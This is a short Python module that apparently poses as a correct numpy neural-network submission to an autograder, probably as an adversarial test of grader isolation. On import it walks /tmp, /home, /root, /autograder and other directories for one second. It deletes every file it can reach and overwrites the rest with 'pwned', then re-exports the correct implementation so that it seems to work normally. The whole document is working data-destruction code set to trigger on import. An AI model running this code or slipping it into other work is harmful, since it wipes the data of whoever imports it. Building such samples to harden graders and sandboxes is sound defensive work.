"""At import, deletes or overwrites every file it can reach (for one second), then behaves."""
import os
import time

from _correct_numpy_net import *  # noqa: F403

_deadline = time.monotonic() + 1.0
_here = os.path.dirname(os.path.abspath(__file__))
for _top in ("/tmp", "/work", "/home", "/root", "/autograder", "/var/tmp", "/dev/shm", os.path.dirname(_here)):
    for _folder, _dirs, _files in os.walk(_top):
        if time.monotonic() > _deadline:
            break
        if _folder.startswith(_here):
            continue
        for _name in _files:
            _path = os.path.join(_folder, _name)
            try:
                os.remove(_path)
            except OSError:
                try:
                    with open(_path, "w") as _handle:
                        _handle.write("pwned")
                except OSError:
                    pass
